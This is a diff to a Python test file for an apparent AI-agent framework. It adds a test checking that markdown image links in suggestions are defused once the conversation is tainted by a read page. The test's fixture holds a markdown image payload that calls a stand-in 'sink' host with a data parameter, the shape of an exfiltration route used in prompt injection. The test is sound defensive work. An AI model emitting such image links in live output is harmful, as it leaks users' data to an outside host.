@@ -11,6 +11,7 @@ from sulla.core.ids import CallId, MessageId, ThreadId
 from sulla.core.jsontypes import JsonObject
 from sulla.core.message import ToolCall
 from sulla.core.words import Words, ours
+from sulla.flows.slice import FlowMoved
 from sulla.models.base import ChatRequest, Delta
 from sulla.store.memory import MemoryStore
 from sulla.testing.clock import ManualClock
@@ -20,7 +21,7 @@ from sulla.threads.log.waits import Permit
 from sulla.tools.base import Done, Result, ToolContext
 from sulla.tools.define import define
 from sulla.tools.policy import targets_of
-from tests.flows.world import SPECS, FlowWorld, PartsProvider, parts_of
+from tests.flows.world import PASSES, SPECS, FlowWorld, PartsProvider, parts_of
 
 SENT: list[str] = []
 """Who has sent something; emptied before each test."""
@@ -62,8 +63,8 @@ READER = AgentSpec("reader", "Reader", "You read.", completion="plain")
 class Replies(PartsProvider):
     """Plays each part by what it says in order, however often a part is asked."""
 
-    def __init__(self, says: Mapping[str, Sequence[Say]]) -> None:
-        super().__init__()
+    def __init__(self, says: Mapping[str, Sequence[Say]], values: Mapping[str, Sequence[JsonObject]] = PASSES) -> None:
+        super().__init__(values)
         self._left = {key: list(said) for key, said in says.items()}
 
     async def stream(self, request: ChatRequest) -> AsyncGenerator[Delta, None]:
@@ -176,3 +177,18 @@ async def test_behind_the_part_the_conversations_agent_counts_for_itself_again(s
     thread = await world.thread()
     await world.walk(thread, custom_flow=flow("reader", "simple"))
     assert SENT == ["sulla"]
+
+
+@pytest.mark.parametrize(
+    ("reads", "said"), [(True, "! [x](http://sink/?d=1)"), (False, "![x](http://sink/?d=1)")], ids=["page", "clean"]
+)
+async def test_what_is_suggested_shows_no_pictures_where_the_conversation_is_mistrusted(
+    store: MemoryStore, reads: bool, said: str
+) -> None:
+    suggested: JsonObject = {"suggestions": ["![x](http://sink/?d=1)"]}
+    provider = Replies(reading(), {"query_suggest": (suggested,)})
+    world = FlowWorld(store, provider, tools=(PAGE, SEND), specs=(*SPECS, READER))
+    thread = await world.thread()
+    await world.walk(thread, custom_flow=flow(*(["reader"] if reads else []), "query_suggest"))
+    [moved] = [one.fact for one in await world.log(thread) if isinstance(one.fact, FlowMoved) and one.fact.value]
+    assert (moved.tainted, moved.value) == (reads, {"value": {"suggestions": [said]}})
